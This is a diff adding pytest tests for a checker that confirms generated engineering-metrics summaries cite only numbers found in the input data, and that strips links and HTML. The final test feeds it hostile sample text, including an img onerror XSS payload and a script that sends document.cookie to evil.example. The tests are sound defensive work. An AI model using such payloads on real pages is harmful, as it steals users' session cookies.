@@ -150,3 +150,50 @@ def test_an_answer_quoting_every_aggregate_is_grounded():
     assert answer.count(". ") >= len(facts(data))
     result = grounding.check(answer, data, limit=100_000)
     assert result.grounded, result.reasons
+
+
+# --- Hardening: grounding that cannot be talked around (finding 2) ---------------------------
+
+
+def test_grounding_rejects_numbers_as_words():
+    data = sample_input()
+    text = "Lead time fell to ninety-nine hours and the change failure rate was zero percent."
+    result = grounding.check(text, data)
+    assert not result.grounded
+    assert any("ninety" in r for r in result.reasons) and any("zero" in r for r in result.reasons)
+    # "one" as a pronoun is prose, not a number.
+    assert grounding.check("One of the repositories shipped 3 deployments.", data).grounded
+
+
+def test_grounding_ties_each_number_to_its_metric():
+    data = sample_input()
+    # 85.7% is the review coverage, not the change failure rate.
+    result = grounding.check("The change failure rate was 85.7% this week.", data)
+    assert not result.grounded and any("change failure rate" in r for r in result.reasons), result.reasons
+    assert grounding.check("The review coverage was 85.7% this week.", data).grounded
+    # 12 is the window length, not a number of incidents.
+    assert not grounding.check("12 incidents happened.", data).grounded
+    assert grounding.check("Over the last 12 weeks there were 2 incidents.", data).grounded
+
+
+def test_grounding_never_cuts_a_name_out_of_a_number():
+    data = sample_input(login="9")
+    result = grounding.check("9 had a lead time of 999 hours.", data)
+    assert not result.grounded and any("999" in r for r in result.reasons), result.reasons
+    assert not grounding.check("Lead time was 9 hours.", data).grounded
+    assert grounding.check("9 shipped 3 deployments.", data).grounded
+
+
+def test_grounding_strips_links_images_and_html():
+    data = sample_input()
+    answer = (
+        "alice shipped [3 deployments](https://evil.example/x?t=1). "
+        "![pixel](https://evil.example/p.gif)<img src=x onerror=alert(1)>"
+        "<script>fetch('https://evil.example/'+document.cookie)</script> "
+        "Review coverage 85.7%. See <https://evil.example/> or [ref][1].\n[1]: https://evil.example/r"
+    )
+    result = grounding.check(answer, data)
+    assert result.grounded, result.reasons
+    for bad in ("http", "evil", "<", ">", "script", "pixel", "](", "onerror"):
+        assert bad not in result.text, (bad, result.text)
+    assert "alice shipped 3 deployments." in result.text
